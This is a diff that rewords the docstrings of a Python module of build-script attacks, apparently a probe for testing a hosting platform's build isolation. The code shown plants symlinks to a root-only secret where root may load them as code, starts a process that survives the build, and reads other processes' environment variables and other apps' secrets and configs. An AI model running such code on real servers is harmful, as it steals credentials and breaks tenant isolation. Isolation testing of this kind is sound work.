@@ -1,4 +1,4 @@
-"""What a project does to the host that builds it. Returns what it has seen."""
+"""The attacks of a build script. They return what they found."""
 
 from __future__ import annotations
 
@@ -39,14 +39,14 @@ def poison_downloads() -> None:
 
 
 def plant_links() -> None:
-    """Put links to what root alone may read where root may take them for code."""
+    """Create links to files that only root may read, where root may use them as code."""
     for top in glob.glob("/srv/wsgi/evil/*/*/*/"):
         with suppress(OSError):
             os.symlink(SECRET, f"{top}/planted.py")
 
 
 def outlive_the_build() -> None:
-    """Start a process that leaves the one that built."""
+    """Start a process that detaches from the build."""
     survivor = Path(__file__).with_name("survivor.py").read_text()
     subprocess.Popen(
         [sys.executable, "-c", survivor],
@@ -58,7 +58,7 @@ def outlive_the_build() -> None:
 
 
 def environments_with(text: str) -> list[str]:
-    """Return the processes whose environment variables have ``text`` in them."""
+    """Return the processes with ``text`` in their environment variables."""
     found = []
     for path in glob.glob("/proc/[0-9]*/environ"):
         with suppress(OSError):
@@ -87,7 +87,7 @@ def list_data() -> list[str]:
 
 
 def list_settings() -> list[str]:
-    """Return what can be read of releases and of other apps, but for what this is built from."""
+    """Return the readable files of releases and other apps, except the sources of this build."""
     package = Path(os.environ["PYTHONPATH"]).parent
     parts = ("files", "diagnosis.key", "environment", "gunicorn.conf.py", "secrets", "setup")
     found = [package / part for part in parts] + list(Path("/srv/wsgi").glob("*/releases/*"))
